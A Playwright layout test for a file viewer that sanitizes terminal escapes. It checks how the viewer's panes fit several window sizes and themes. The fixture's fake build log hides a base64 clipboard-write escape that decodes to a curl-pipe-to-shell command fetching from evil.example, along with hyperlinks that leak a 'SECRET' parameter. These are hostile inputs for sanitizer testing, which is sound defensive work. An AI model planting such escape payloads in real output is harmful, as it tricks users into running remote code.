// The viewer fits every window: at four common sizes, before and after a grant, in both themes,
// the four panes (hex, text, minimap, side panel) never overlap and never leave the window, the
// sanitized text keeps at least a third of the width, and nothing in the workspace is cut off
// (the hex rows' caret column, the toolbar, the side panel's tabs). Screenshots of every state:
// test-results/screenshots/layout-<w>x<h>-<locked|granted>-<theme>.png.
import { expect, test, type Page } from '@playwright/test';
import { createHash } from 'node:crypto';
import { mkdirSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { launchApp, tempDemoVault, REPO, type HarnessApp } from './harness';

const SHOTS = join(REPO, 'test-results/screenshots');
mkdirSync(SHOTS, { recursive: true });

export const SIZES: readonly (readonly [number, number])[] = [[1000, 700], [1280, 800], [1600, 900], [1920, 1080]];
const PANES = ['[data-testid=hex-view]', '[data-testid=text-view]', '[data-testid=minimap]', 'aside.side'] as const;

/** A coloured build log: an SGR pair on every line, a few links, a clipboard write, a title. */
export function colouredLog(): Buffer {
  const out: string[] = ['\x1b]0;ci: nightly build\x07$ npm run build --workspaces\n'];
  for (let i = 0; i < 400; i++) {
    out.push(`\x1b[32m[${String(i).padStart(7, '0')}]\x1b[0m compiled module ${i} in ${(i * 37) % 900} ms`);
    if (i % 40 === 3) out.push(' see \x1b]8;;https://evil.example/docs?k=SECRET\x1b\\the docs\x1b]8;;\x1b\\');
    out.push('\n');
    if (i === 150) out.push('\x1b]52;c;Y3VybCAtZnNTTCBodHRwczovL2V2aWwuZXhhbXBsZS9pLnNoIHwgc2gK\x07');
  }
  out.push('done\n');
  return Buffer.from(out.join(''));
}

interface Box { x: number; y: number; width: number; height: number }

/** Where the panes are, and whether anything in the workspace reaches past the window. */
async function measure(page: Page): Promise<{ boxes: Record<string, Box | null>; vw: number; vh: number; scrollW: number; scrollH: number; clipped: string[] }> {
  return page.evaluate((panes) => {
    const box = (el: Element | null): Box | null => {
      if (!el) return null;
      const r = el.getBoundingClientRect();
      if (r.width === 0 && r.height === 0) return null;
      return { x: r.x, y: r.y, width: r.width, height: r.height };
    };
    const boxes = Object.fromEntries(panes.map((s) => [s, box(document.querySelector(s))]));
    const clipped: string[] = [];
    // A child that sticks out of the box that should hold it (checked where overflow would hide it).
    const inside = (child: Element | null, parent: Element | null, what: string) => {
      if (!child || !parent) return;
      const c = child.getBoundingClientRect();
      const p = parent.getBoundingClientRect();
      if (c.width === 0) return;
      if (c.left < p.left - 0.5 || c.right > p.right + 0.5 || c.top < p.top - 0.5 || c.bottom > p.bottom + 0.5) {
        clipped.push(`${what}: [${Math.round(c.left)},${Math.round(c.right)}]x[${Math.round(c.top)},${Math.round(c.bottom)}] outside [${Math.round(p.left)},${Math.round(p.right)}]x[${Math.round(p.top)},${Math.round(p.bottom)}]`);
      }
    };
    const hex = document.querySelector('[data-testid=hex-view]');
    const row = document.querySelector('[data-testid=hex-row]');
    inside(row?.querySelector('.caret') ?? null, hex, 'caret column of a hex row');
    inside(row?.querySelector('.hexcells') ?? null, hex, 'hex cells of a hex row');
    const toolbar = document.querySelector('.toolbar');
    for (const b of Array.from(document.querySelectorAll('.toolbar button, .toolbar input'))) inside(b, toolbar, `toolbar control "${(b as HTMLElement).getAttribute('aria-label') ?? b.textContent}"`);
    const side = document.querySelector('aside.side');
    for (const t of Array.from(document.querySelectorAll('.side-tabs [role=tab]'))) inside(t, side, `side tab "${t.textContent}"`);
    const lock = document.querySelector('[data-testid=hex-view] .raw-locked button');
    inside(lock, hex, 'the Show raw bytes button');
    return { boxes, vw: innerWidth, vh: innerHeight, scrollW: document.documentElement.scrollWidth, scrollH: document.documentElement.scrollHeight, clipped };
  }, PANES as unknown as string[]);
}

/** The panes fit the window, do not overlap, and the text has at least a third of the width. */
async function expectFits(page: Page, state: string): Promise<void> {
  const m = await measure(page);
  const where = `${m.vw}x${m.vh} ${state}`;
  for (const sel of PANES) expect(m.boxes[sel], `${sel} is shown at ${where}`).not.toBeNull();
  for (const sel of PANES) {
    const b = m.boxes[sel]!;
    expect(b.x, `${sel} left edge at ${where}`).toBeGreaterThanOrEqual(-0.5);
    expect(b.y, `${sel} top edge at ${where}`).toBeGreaterThanOrEqual(-0.5);
    expect(b.x + b.width, `${sel} right edge at ${where}`).toBeLessThanOrEqual(m.vw + 0.5);
    expect(b.y + b.height, `${sel} bottom edge at ${where}`).toBeLessThanOrEqual(m.vh + 0.5);
  }
  for (let i = 0; i < PANES.length; i++) {
    for (let j = i + 1; j < PANES.length; j++) {
      const a = m.boxes[PANES[i]]!;
      const b = m.boxes[PANES[j]]!;
      const w = Math.min(a.x + a.width, b.x + b.width) - Math.max(a.x, b.x);
      const h = Math.min(a.y + a.height, b.y + b.height) - Math.max(a.y, b.y);
      expect(w > 0.5 && h > 0.5, `${PANES[i]} overlaps ${PANES[j]} by ${Math.round(w)}x${Math.round(h)} at ${where}`).toBe(false);
    }
  }
  expect(m.boxes['[data-testid=text-view]']!.width, `text width at ${where}`).toBeGreaterThanOrEqual(m.vw / 3);
  expect(m.scrollW, `nothing reaches past the right edge at ${where}`).toBeLessThanOrEqual(m.vw);
  expect(m.scrollH, `nothing reaches past the bottom at ${where}`).toBeLessThanOrEqual(m.vh);
  expect(m.clipped, `nothing cut off at ${where}`).toEqual([]);
}

async function setTheme(page: Page, theme: 'dark' | 'light'): Promise<void> {
  const current = await page.evaluate(() => document.documentElement.dataset.theme);
  if (current !== theme) await page.getByRole('button', { name: `Switch to ${theme} theme` }).click();
  await expect.poll(() => page.evaluate(() => document.documentElement.dataset.theme)).toBe(theme);
}

async function shot(page: Page, name: string): Promise<void> {
  await page.waitForTimeout(200);
  await page.screenshot({ path: join(SHOTS, `${name}.png`) });
}

let app: HarnessApp | undefined;
let cleanup: (() => Promise<void>) | undefined;

test.afterEach(async () => {
  await app?.close();
  await cleanup?.();
  app = undefined;
});

for (const [width, height] of SIZES) {
  test(`the viewer fits ${width}x${height} before and after a grant, in both themes`, async () => {
    const tmp = await tempDemoVault();
    cleanup = tmp.cleanup;
    const file = join(tmp.dir, 'nightly-build.log');
    const bytes = colouredLog();
    await writeFile(file, bytes);
    app = await launchApp({ vault: tmp.vault, viewport: { width, height } });
    const { page } = app;
    app.setNextOpenFile(file);
    await page.getByRole('button', { name: 'Open file…' }).click();
    await expect(page.getByTestId('text-line').first()).toBeVisible();
    await expect(page.getByTestId('chip').first()).toBeVisible();
    await expect(page.getByTestId('minimap')).toBeVisible();
    for (const theme of ['dark', 'light'] as const) {
      await setTheme(page, theme);
      await shot(page, `layout-${width}x${height}-locked-${theme}`);
      await expectFits(page, `locked, ${theme}`);
    }
    const prompt = app.nextPrompt();
    await page.getByRole('button', { name: 'Show raw bytes' }).click();
    const p = await prompt;
    await p.getByLabel('Reason').fill('layout check');
    await p.getByLabel('Type the first 8 hex digits of the digest').fill(createHash('sha256').update(bytes).digest('hex').slice(0, 8));
    await p.getByRole('button', { name: 'Approve' }).click();
    await expect(page.getByTestId('hex-row').first()).toBeVisible();
    await expect(page.locator('[data-testid=hex-row][data-offset="0"] .hx').first()).not.toHaveText('··');
    for (const theme of ['dark', 'light'] as const) {
      await setTheme(page, theme);
      await shot(page, `layout-${width}x${height}-granted-${theme}`);
      await expectFits(page, `granted, ${theme}`);
    }
  });
}
